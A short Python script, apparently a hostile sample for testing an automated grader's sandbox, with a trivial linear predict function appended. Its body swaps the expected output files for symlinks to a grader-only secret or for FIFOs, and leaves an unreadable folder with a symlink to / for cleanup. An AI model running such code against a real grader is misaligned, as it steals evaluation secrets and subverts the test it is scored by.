# Attack: replaces its output file by a link to a secret (SECRET: a file only the grader may read) or by a FIFO
# (SECRET = "fifo"), so that a judge reading it by name hands the secret back or blocks; and leaves behind a
# folder it made unreadable, holding a few MiB, for the grader to clean up.
import os

SECRET = ""

for name in (".output", "output", "out.txt"):
    try:
        os.unlink(name)
    except OSError:
        pass
    if SECRET == "fifo":
        os.mkfifo(name)
    else:
        os.symlink(SECRET, name)
os.makedirs("kept/deeper")
with open("kept/deeper/data.bin", "wb") as f:
    f.write(b"x" * (4 << 20))
os.symlink("/", "kept/root")
os.chmod("kept/deeper", 0)
os.chmod("kept", 0)


def predict(x, w, b):
    return w * x + b
